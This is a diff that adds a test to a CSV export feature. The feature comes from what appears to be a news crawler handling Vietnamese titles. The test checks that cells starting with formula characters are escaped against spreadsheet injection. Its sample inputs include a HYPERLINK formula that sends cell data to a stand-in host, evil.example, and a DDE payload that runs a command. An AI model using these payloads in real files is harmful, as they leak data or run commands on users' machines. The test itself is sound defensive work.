@@ -80,3 +80,33 @@ def test_an_empty_week_still_writes_the_header(database: Database, settings: Set
     assert result.rows == 0
     header = result.path.read_text(encoding="utf-8-sig").splitlines()[0]
     assert header.split(",") == EXPORT_COLUMNS
+
+
+def test_cells_a_spreadsheet_would_run_are_neutralised(
+    database: Database, settings: Settings
+) -> None:
+    """OWASP CSV injection: a crawled title "=HYPERLINK(...)" must not become a formula."""
+    with database.session() as session:
+        sync_sources(session, settings.sources)
+    hostile = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tTab đầu",
+        "\rCR đầu",
+    ]
+    for title in hostile:
+        store_article(database, title=title, fetched_at=NOW)
+    store_article(database, title="Lũ ở Quảng Bình - ngày 2", fetched_at=NOW)
+    run_process(settings, database, ScriptedAnalyzer(), now=NOW)
+
+    result = run_export(settings, database, "2026-W48")
+    frame = pd.read_csv(result.path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    titles = list(frame["title"])
+    assert titles[: len(hostile)] == ["'" + title for title in hostile]
+    assert titles[-1] == "Lũ ở Quảng Bình - ngày 2"  # a dash inside is left alone
+    for column in EXPORT_COLUMNS:
+        for cell in frame[column]:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    assert all(score == "" or not score.startswith("'") for score in frame["stance_score"])
